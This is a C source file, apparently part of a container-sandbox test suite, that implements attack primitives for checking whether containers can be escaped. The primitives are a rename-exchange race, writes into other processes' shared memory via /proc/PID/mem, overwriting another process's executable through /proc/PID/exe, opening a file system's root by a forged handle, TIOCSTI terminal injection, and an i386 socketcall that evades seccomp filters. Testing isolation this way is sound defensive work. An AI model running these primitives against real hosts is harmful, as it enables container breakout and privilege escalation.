// Attacks for which busybox has no word. The same program runs inside containers and, as the control that an
// attack is real, outside of them on things made for it.
//   try NAME...        one line each: "NAME ok" or "NAME errno-name"
//   swap A B COUNT     exchanges the two names for ever, in bursts; the number of exchanges is the file COUNT
//   fds SEEN           looks at the descriptors, mount namespaces, roots and rights of all other processes for ever;
//                      a line in SEEN for each new one
//   misname SEEN PID   writes PID into all memory that other processes share with others, as soon as it may; into
//                      every second process's with the word of a holder that has died before it
//   overwrite SEEN IN  appends to the program of each process whose path starts with IN and not with /bin, as soon
//                      as it may
//   root-handle DIR    opens inode 2 of DIR's file system by a made-up handle and prints its number
//   own-handle FILE    opens FILE by its own handle and prints its inode number
//   inject TEXT        types TEXT into the terminal that is descriptor 0: with TIOCSTI, then with bit 32 set, too
//   euid               prints the effective user id
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../support/attempts.h"

// --- system calls ------------------------------------------------------------------------------

static long clone3_user(void) {
  struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
  long pid = syscall(SYS_clone3, &args, sizeof(args));
  if (pid == 0) _exit(0);
  return pid;
}

// socketcall(2) is system call 102 of i386 and takes its arguments from memory: no filter sees the family.
static long i386_socket(int family, int type) {
  uint32_t* words = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (words == MAP_FAILED) return -1;
  words[0] = family;
  words[1] = type;
  words[2] = 0;
  long answer;
  __asm__ volatile("int $0x80"
                   : "=a"(answer)
                   : "a"(102L), "b"(1L), "c"((long)(intptr_t)words)
                   : "memory", "r8", "r9", "r10", "r11");
  int number = (int)answer;
  if (number < 0) errno = -number;
  return number < 0 ? -1 : number;
}

static long attempt(const char* name) {
  if (!strcmp(name, "clone3-user")) return clone3_user();
  if (!strcmp(name, "netfilter")) return socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
  if (!strcmp(name, "xfrm")) return socket(AF_NETLINK, SOCK_RAW, NETLINK_XFRM);
  if (!strcmp(name, "key")) return socket(AF_KEY, SOCK_RAW, 2);
  if (!strcmp(name, "rxrpc")) return socket(AF_RXRPC, SOCK_DGRAM, AF_INET);
  if (!strcmp(name, "i386-unix")) return i386_socket(AF_UNIX, SOCK_STREAM);
  if (!strcmp(name, "i386-netlink")) return i386_socket(AF_NETLINK, SOCK_RAW);
  return common_attempt(name);
}

// --- races -------------------------------------------------------------------------------------

// Bursts of exchanges, and rests of 1 us to 32 ms in either state between them: a race is won within a burst or where
// a rest begins or ends; and now and then a rest is long enough for a container to be made from beginning to end.
static int swap(const char* first, const char* second, const char* count_file) {
  int out = open(count_file, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (out < 0) return 3;
  srandom(getpid());
  for (unsigned long count = 0;;) {
    for (long burst = 1 + random() % 64; burst > 0; --burst) {
      // It fails while the runtime has something of its own mounted or made there.
      if (renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) == 0) ++count;
    }
    char text[32];
    int size = snprintf(text, sizeof(text), "%lu\n", count);
    (void)!pwrite(out, text, size, 0);
    usleep(1 << (random() % 16));
  }
}

// --- who enters --------------------------------------------------------------------------------

static int is_new(const char* line) {
  static char* known[4096];
  static int count;
  for (int i = 0; i < count; ++i) {
    if (!strcmp(known[i], line)) return 0;
  }
  if (count < 4096) known[count++] = strdup(line);
  return 1;
}

static void tell(FILE* seen, const char* line) {
  if (is_new(line)) fprintf(seen, "%s\n", line);
}

// Where a process is, if not where this one is, and what it may do.
static void look_at_place_and_rights(FILE* seen, int pid) {
  char path[64], line[512], own[64] = "", other[64] = "";
  struct stat here, there;
  snprintf(path, sizeof(path), "/proc/%d/root", pid);
  snprintf(line, sizeof(line), "elsewhere %d root", pid);
  if (stat("/", &here) == 0 && stat(path, &there) == 0 &&
      (here.st_dev != there.st_dev || here.st_ino != there.st_ino))
    tell(seen, line);
  snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pid);
  snprintf(line, sizeof(line), "elsewhere %d mounts", pid);
  if (readlink("/proc/self/ns/mnt", own, sizeof(own) - 1) > 0 && readlink(path, other, sizeof(other) - 1) > 0 &&
      strcmp(own, other) != 0)
    tell(seen, line);
  snprintf(path, sizeof(path), "/proc/%d/status", pid);
  FILE* status = fopen(path, "re");
  char text[256];
  while (status != NULL && fgets(text, sizeof(text), status) != NULL) {
    if (sscanf(text, "CapPrm: %63s", other) != 1) continue;
    snprintf(line, sizeof(line), "rights %d %s", pid, other);
    tell(seen, line);
  }
  if (status != NULL) fclose(status);
}

static void look_at_descriptors(FILE* seen, int pid) {
  char path[64], program[256] = "?", line[8192];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  ssize_t size = readlink(path, program, sizeof(program) - 1);
  if (size > 0) program[size] = 0;
  snprintf(line, sizeof(line), "process %d %s", pid, program);  // "?": it is closed to us
  tell(seen, line);
  look_at_place_and_rights(seen, pid);
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR* directory = opendir(path);
  struct dirent* entry;
  while (directory != NULL && (entry = readdir(directory)) != NULL) {
    char target[4096];
    if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) < 3) continue;
    size = readlinkat(dirfd(directory), entry->d_name, target, sizeof(target) - 1);
    if (size <= 0) continue;
    target[size] = 0;
    snprintf(line, sizeof(line), "descriptor %d %s %s %s", pid, program, entry->d_name, target);
    tell(seen, line);
  }
  if (directory != NULL) closedir(directory);
}

static uint32_t wrong_pid;

// What a process that enters shares with the runtime: words that tell how far it is (robust futexes, the second of
// them its own), and then whatever they say to each other.
static void misname(FILE* seen, int pid) {
  enum { kOwnWord = 8, kFirst = 24, kEnd = 64 };
  static int last, died;
  char path[64], line[512], known[64];
  snprintf(path, sizeof(path), "/proc/%d/maps", pid);
  FILE* maps = fopen(path, "re");
  snprintf(path, sizeof(path), "/proc/%d/mem", pid);
  int memory = maps == NULL ? -1 : open(path, O_RDWR | O_CLOEXEC);
  while (memory >= 0 && fgets(line, sizeof(line), maps) != NULL) {
    unsigned long start = 0;
    if (strstr(line, " rw-s ") == NULL || sscanf(line, "%lx-", &start) != 1) continue;
    uint32_t words[(kEnd - kFirst) / sizeof(uint32_t)];
    for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); ++i) words[i] = wrong_pid;
    if (pwrite(memory, words, sizeof(words), start + kFirst) != sizeof(words)) continue;
    if (pid != last) died = !died;
    last = pid;
    const uint32_t word = 1U << 30;  // FUTEX_OWNER_DIED
    if (died) (void)!pwrite(memory, &word, sizeof(word), start + kOwnWord);
    snprintf(known, sizeof(known), "written %d", pid);
    tell(seen, known);
  }
  if (memory >= 0) close(memory);
  if (maps != NULL) fclose(maps);
}

static const char* overwritten_in = "";

static void overwrite(FILE* seen, int pid) {
  char path[64], program[4096] = "";
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  ssize_t size = readlink(path, program, sizeof(program) - 1);
  if (size <= 0 || !strncmp(program, "/bin/", 5)) return;
  if (strncmp(program, overwritten_in, strlen(overwritten_in)) != 0) return;
  int held = open(path, O_RDONLY | O_CLOEXEC);
  if (held < 0) return;
  fprintf(seen, "opened %s\n", program);
  snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
  // While it runs it cannot be written (ETXTBSY): the attack waits for its end.
  for (int i = 0; i < 1000; ++i) {
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) {
      if (write(fd, "overwritten", 11) == 11) fprintf(seen, "overwritten %s\n", program);
      close(fd);
      break;
    }
    if (errno != ETXTBSY) {
      fprintf(seen, "denied %s\n", strerrorname_np(errno));
      break;
    }
    usleep(1000);
  }
  close(held);
}

static int watch(const char* file, void (*look)(FILE*, int)) {
  FILE* seen = fopen(file, "a");
  if (seen == NULL) return 3;
  setvbuf(seen, NULL, _IOLBF, 0);
  fputs("watching\n", seen);
  while (1) {
    DIR* processes = opendir("/proc");
    struct dirent* entry;
    while (processes != NULL && (entry = readdir(processes)) != NULL) {
      int pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid()) look(seen, pid);
    }
    if (processes != NULL) closedir(processes);
  }
}

// --- handles -----------------------------------------------------------------------------------

static int print_opened(int mount, struct file_handle* handle) {
  int fd = open_by_handle_at(mount, handle, O_RDONLY);
  struct stat info;
  if (fd < 0 || fstat(fd, &info) != 0) {
    puts(strerrorname_np(errno));
    return 1;
  }
  printf("inode %lu\n", (unsigned long)info.st_ino);
  return 0;
}

static int root_handle(const char* directory) {
  int mount = open(directory, O_RDONLY);
  struct file_handle* handle = calloc(1, sizeof(*handle) + 8);
  if (mount < 0 || handle == NULL) return 3;
  uint32_t words[2] = {2, 0};  // ext4: the root's inode, and a generation that is not compared when it is 0
  handle->handle_bytes = 8;
  handle->handle_type = 1;
  memcpy(handle->f_handle, words, 8);
  return print_opened(mount, handle);
}

static int own_handle(const char* file) {
  int mount = open(file, O_RDONLY), id = 0;
  struct file_handle* handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
  if (mount < 0 || handle == NULL) return 3;
  handle->handle_bytes = MAX_HANDLE_SZ;
  if (name_to_handle_at(AT_FDCWD, file, handle, &id, 0) != 0) return 4;
  return print_opened(mount, handle);
}

// --- terminals ---------------------------------------------------------------------------------

static int inject(const char* text) {
  static const unsigned long kRequests[] = {TIOCSTI, 1UL << 32 | TIOCSTI};
  for (int i = 0; i < 2; ++i) {
    long answer = 0;
    for (const char* c = text; *c != 0 && answer == 0; ++c) answer = syscall(SYS_ioctl, 0, kRequests[i], c);
    printf("%s %s\n", i == 0 ? "plain" : "high", answer == 0 ? "ok" : strerrorname_np(errno));
  }
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (!strcmp(argv[1], "euid")) return printf("%d\n", geteuid()) < 0;
  if (argc < 3) return 2;
  if (!strcmp(argv[1], "try")) return try_all(argc - 2, argv + 2, attempt);
  if (!strcmp(argv[1], "swap") && argc > 4) return swap(argv[2], argv[3], argv[4]);
  if (!strcmp(argv[1], "fds")) return watch(argv[2], look_at_descriptors);
  if (!strcmp(argv[1], "misname") && argc > 3) {
    wrong_pid = strtoul(argv[3], NULL, 10);
    return watch(argv[2], misname);
  }
  if (!strcmp(argv[1], "overwrite") && argc > 3) {
    overwritten_in = argv[3];
    return watch(argv[2], overwrite);
  }
  if (!strcmp(argv[1], "root-handle")) return root_handle(argv[2]);
  if (!strcmp(argv[1], "own-handle")) return own_handle(argv[2]);
  if (!strcmp(argv[1], "inject")) return inject(argv[2]);
  return 2;
}
